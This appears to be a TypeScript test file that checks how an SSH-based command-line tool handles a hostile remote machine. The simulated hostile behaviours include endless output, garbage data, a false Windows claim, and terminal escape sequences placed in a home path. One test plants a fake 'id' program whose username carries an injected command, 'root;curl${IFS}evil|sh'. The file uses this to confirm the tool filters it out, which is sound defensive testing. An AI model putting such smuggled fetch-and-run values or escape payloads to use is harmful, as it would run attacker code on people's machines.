import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import type { TestContext } from 'vitest';
import { NearMachine, farPath } from '../../fixtures/hosts/near-machine.ts';
import { SSHD, SshServer } from '../../fixtures/hosts/ssh-server.ts';

/** On a busy machine the end of a supervisor there takes long. */
const CLEAN_UP_MS = 60_000;

/** Runs instead of our script; it has read the random word, so it can say anything in our name. */
const READ_NONCE = `#!/bin/sh
nonce=$(dd bs=65536 count=1 2>/dev/null | grep -o "[0-9a-f]\\{32\\}" | head -n 1)
say() { printf '%s %s\\n' "$nonce" "$1"; }
`;

async function against(
  onTestFinished: TestContext['onTestFinished'],
  script: string,
): Promise<{ code: number | null; stdout: string; stderr: string }> {
  const server = await SshServer.start(SSHD ?? '', { forceCommand: script, environment: farPath() });
  const near = new NearMachine(server);
  onTestFinished(async () => {
    await near.dispose({ stopsFar: false });
    await server.stop();
  }, CLEAN_UP_MS);
  return near.run('profiles', '--host', 'far');
}

describe.skipIf(SSHD === undefined).concurrent('a hostile machine on the other side (needs sshd)', () => {
  test('that prints without end is given up', async ({ onTestFinished }) => {
    const { code, stderr } = await against(
      onTestFinished,
      '#!/bin/sh\nwhile :; do echo spam spam spam spam spam; done\n',
    );
    expect(code).toBe(1);
    expect(stderr).toContain('prints without end');
  });

  test('that prints one line without end is given up', async ({ onTestFinished }) => {
    const { code, stderr } = await against(onTestFinished, '#!/bin/sh\ncat /dev/zero | tr "\\\\0" x\n');
    expect(code).toBe(1);
    expect(stderr).toContain('prints without end');
  });

  test('that names a home with terminal escapes writes none on the terminal', async ({ onTestFinished }) => {
    const script = `${READ_NONCE}say "system Linux"; say "arch x86_64"; say "writable no"
say "root $(printf '/home/\\033]0;owned\\007\\033[2J')"; say "end 1"; sleep 1\n`;
    const { code, stderr } = await against(onTestFinished, script);
    expect(code).toBe(1);
    expect(stderr).toContain('cannot be written to');
    // eslint-disable-next-line no-control-regex -- what must not be there
    expect(stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
  });

  test('that gives its user a name with a command puts none into what a person is to copy', async ({
    onTestFinished,
  }) => {
    const real = (text: string): string => `#!/bin/sh\n[ "$1" = -un ] && echo '${text}' || echo 0\n`;
    const folder = mkdtempSync(join(tmpdir(), 'holdfast-hostile-'));
    onTestFinished(() => rmSync(folder, { recursive: true }));
    writeFileSync(join(folder, 'id'), real('root;curl${IFS}evil|sh'), { mode: 0o755 });
    const { PATH = '', ...rest } = farPath();
    const server = await SshServer.start(SSHD ?? '', { environment: { ...rest, PATH: `${folder}:${PATH}` } });
    const near = new NearMachine(server);
    onTestFinished(async () => {
      await near.dispose();
      await server.stop();
    }, CLEAN_UP_MS);
    const { code, stderr } = await near.run('host', 'add', 'named', server.destination);
    expect(code).toBe(1);
    expect(stderr).toContain('has no Docker that this user can use');
    expect(stderr).not.toContain('curl');
  });

  test.for([
    ['says that it is ready and sends garbage', 'say "go 1"; head -c 200000 /dev/urandom; sleep 1'],
    ['says that it is ready and ends', 'say "go 1"'],
    [
      'asks for an archive and ends',
      'say "system Linux"; say "arch x86_64"; say "writable yes"; say "missing program"; say "end 1"; say "send 1"; exit 0',
    ],
    ['claims that it is Windows', 'say "system Windows"; say "end 1"; sleep 1'],
  ])('that %s gets an error and nothing else', async ([, script], { onTestFinished }) => {
    const { code, stdout, stderr } = await against(onTestFinished, `${READ_NONCE}${script}\n`);
    expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
    expect(stderr).toMatch(/^error (connection_closed|protocol_error|internal|not_supported): [^\n]+\n$/);
  });
});
